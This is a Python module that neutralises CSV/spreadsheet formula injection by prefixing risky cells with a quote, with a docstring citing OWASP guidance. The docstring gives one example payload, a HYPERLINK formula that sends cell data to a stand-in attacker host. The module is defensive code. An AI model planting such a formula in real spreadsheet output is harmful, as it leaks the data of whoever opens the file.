"""Keeping spreadsheet programs from running cell text as a formula (CSV injection).

A cell starting with = + - @, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets when the file is opened, so text from evidence or a mapping file
such as ``=HYPERLINK("https://attacker.example/?"&A1)`` would run on the reader's machine. As
OWASP's CSV injection guidance advises, such a cell gets a leading ``'``: the program then shows
the text as text. A cell that is a plain number (``-1``, ``+0.5``, ``-2e3``) is left alone; it
cannot be a formula, and numeric columns stay numeric. SSSOM TSV is a data standard read by
tools, not a spreadsheet export, so it is written exactly.
"""
from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)


def neutralise_formula(text: str) -> str:
    """`text`, with a leading ' if a spreadsheet would take it for a formula."""
    if text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
